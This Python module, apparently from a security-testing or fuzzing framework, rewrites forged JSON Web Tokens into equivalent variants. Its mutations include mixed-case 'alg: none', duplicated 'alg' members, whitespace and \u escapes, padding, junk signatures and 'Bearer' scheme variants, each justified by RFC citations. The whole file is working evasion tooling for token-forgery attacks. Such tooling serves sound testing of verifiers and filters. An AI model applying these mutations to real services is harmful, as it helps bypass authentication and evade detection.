"""JSON Web Tokens: the same forged header and claims, written as other text.

Whoever forges a token signs what he writes, or needs no signature: the text of header and claims is his to choose. What a
verifier makes of the header stays the same. The signature is left as it was, as no engine has the key. Source: RFC 7515
(JWS) 3 to 7, RFC 7519 (JWT) 4 and 5, RFC 8259 (JSON) 2, 4 and 7, RFC 9110 11.1 (names of schemes); RFC 8725 (best current
practices) 2.1 and 3.1 on algorithms.
"""

import base64
import binascii
import json
import re
from collections.abc import Callable
from dataclasses import replace
from random import Random

from .model import Attack, mutation

JWT = ("jwt",)
TOKEN = re.compile(r"(eyJ[\w\-]*)\.([\w\-]*)(\.[\w\-]*)?")


def encoded(text: str) -> str:
    """Base64 for URLs without padding."""
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def decoded(part: str) -> dict | None:
    """The object that a part of a token holds."""
    try:
        found = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except (ValueError, binascii.Error):
        return None
    return found if isinstance(found, dict) else None


def compact(value: object) -> str:
    """JSON without blanks."""
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False)


def header(attack: Attack, write: Callable[[dict], str | None]) -> str | None:
    """The payload with the header of its token written anew; `write` gives the JSON text."""
    found = TOKEN.search(attack.payload)
    members = found and decoded(found[1])
    text = write(members) if members else None
    if found is None or text is None:
        return None
    return attack.payload[: found.start(1)] + encoded(text) + attack.payload[found.end(1) :]


@mutation("token-member-order", JWT, "The members of an object have no order (RFC 8259 4).")
def member_order(attack: Attack, rng: Random) -> str | None:
    """The header's members in another order."""

    def write(members: dict) -> str:
        names = list(members)[::-1]
        return compact({name: members[name] for name in names})

    return header(attack, write)


@mutation("token-blanks", JWT, "White space may stand between the tokens of JSON (RFC 8259 2).")
def blanks(attack: Attack, rng: Random) -> str | None:
    """`{ "alg" : ... }`."""
    gap = rng.choice((" ", "\t", "\n", "\r\n  "))

    def write(members: dict) -> str:
        inner = f"{gap},".join(f'"{name}"{gap}:{gap}{compact(value)}' for name, value in members.items())
        return f"{{{inner}{gap}}}"

    return header(attack, write)


@mutation("token-blanks-first", JWT, "White space may stand behind the opening brace (RFC 8259 2).")
def blanks_first(attack: Attack, rng: Random) -> str | None:
    """`{ "alg"`, which changes how the token begins."""
    gap = rng.choice((" ", "\n", "\t", "\r\n", "  "))
    return header(attack, lambda members: "{" + gap + compact(members)[1:])


@mutation("token-escapes", JWT, "Every character of a JSON string may be \\uXXXX (RFC 8259 7).")
def escapes(attack: Attack, rng: Random) -> str | None:
    """`{"\\u0061lg":...}`."""

    def text(value: str) -> str:
        return '"' + "".join(f"\\u{ord(c):04x}" if rng.random() < 0.5 and ord(c) < 0x10000 else c for c in value) + '"'

    def write(members: dict) -> str:
        plain = {
            n: text(v) if isinstance(v, str) and not re.search(r'["\\\x00-\x1f]', v) else compact(v)
            for n, v in members.items()
        }
        return "{" + ",".join(f"{text(name)}:{value}" for name, value in plain.items()) + "}"

    return header(attack, write)


@mutation("token-alg-case", JWT, "Verifiers that compare without case take any spelling (RFC 8725 3.1).")
def alg_case(attack: Attack, rng: Random) -> str | None:
    """`nOnE`."""

    def write(members: dict) -> str | None:
        if str(members.get("alg")).lower() != "none":
            return None
        return compact({**members, "alg": rng.choice(("None", "NONE", "nOnE", "noNE"))})

    return header(attack, write)


@mutation(
    "token-type", JWT, "The type is optional and has no case; the prefix application/ may be left out (RFC 7515 4.1.9)."
)
def token_type(attack: Attack, rng: Random) -> str | None:
    """`"typ":"at+jwt"`, or none."""

    def write(members: dict) -> str:
        rest = {name: value for name, value in members.items() if name != "typ"}
        kind = rng.choice(("", "jwt", "at+jwt", "application/jwt", "JOSE"))
        return compact({**rest, "typ": kind} if kind else rest)

    return header(attack, write)


@mutation("token-members-more", JWT, "Members of the header that a reader does not know are ignored (RFC 7515 4).")
def members_more(attack: Attack, rng: Random) -> str | None:
    """Other members in front."""
    more = {f"x-{name}": rng.randrange(10**6) for name in rng.sample(("trace", "shard", "build", "zone"), 2)}
    return header(attack, lambda members: compact({**more, **members}))


@mutation("token-members-large", JWT, "Members of the header that a reader does not know are ignored (RFC 7515 4).")
def members_large(attack: Attack, rng: Random) -> str | None:
    """Two thousand bytes of another member in front."""
    return header(attack, lambda members: compact({"x-note": "river " * 340, **members}))


@mutation("token-member-twice", JWT, "Of members of the same name most readers take the last (RFC 8259 4).")
def member_twice(attack: Attack, rng: Random) -> str | None:
    """`{"alg":"RS256",...,"alg":"none"}`."""
    first = rng.choice(("RS256", "HS256", "ES256"))
    return header(attack, lambda members: f'{{"alg":"{first}",{compact(members)[1:]}')


@mutation(
    "token-padding", JWT, "Lenient readers take the padding that base64 has elsewhere (RFC 7515 2 leaves it out)."
)
def padding(attack: Attack, rng: Random) -> str | None:
    """`eyJ...fQ==.eyJ...`."""
    found = TOKEN.search(attack.payload)
    if found is None:
        return None
    parts = [part + "=" * (-len(part) % 4) for part in found[0].split(".")]
    return attack.payload[: found.start()] + ".".join(parts) + attack.payload[found.end() :]


@mutation("token-claims-more", JWT, "Claims that a reader does not know are ignored (RFC 7519 4).")
def claims_more(attack: Attack, rng: Random) -> str | None:
    """Other claims."""
    found = TOKEN.search(attack.payload)
    claims = found and decoded(found[2])
    if not found or claims is None:
        return None
    more = {"nbf": rng.randrange(10**9), "jti": f"{rng.getrandbits(64):x}", "note": "lorem " * rng.choice((1, 40, 200))}
    text = encoded(compact({**more, **claims}))
    return attack.payload[: found.start(2)] + text + attack.payload[found.end(2) :]


@mutation("token-signature-junk", JWT, "A verifier that takes none for an algorithm does not look at the signature.")
def signature_junk(attack: Attack, rng: Random) -> str | None:
    """A signature behind `none`."""
    found = TOKEN.search(attack.payload)
    members = found and decoded(found[1])
    if not found or not members or str(members.get("alg")).lower() != "none":
        return None
    junk = base64.urlsafe_b64encode(rng.randbytes(32)).decode().rstrip("=")
    return f"{attack.payload[: found.end(2)]}.{junk}{attack.payload[found.end() :]}"


@mutation("token-scheme", JWT, "Names of schemes have no case, and blanks part them from the token (RFC 9110 11.1).")
def scheme(attack: Attack, rng: Random) -> str | None:
    """`bEARER  eyJ...`."""
    if not attack.payload.startswith("Bearer "):
        return None
    return rng.choice(("bearer", "BEARER", "bEaReR")) + rng.choice((" ", "  ")) + attack.payload[7:]


@mutation("token-in-field", JWT, "Applications that take a token in a parameter often take it with its scheme.")
def in_field(attack: Attack, rng: Random) -> Attack | None:
    """`Bearer eyJ...` in a parameter or cookie."""
    if attack.place == "header" or not attack.payload.startswith("eyJ"):
        return None
    return replace(attack, payload=rng.choice(("Bearer ", "JWT ", "bearer ")) + attack.payload)
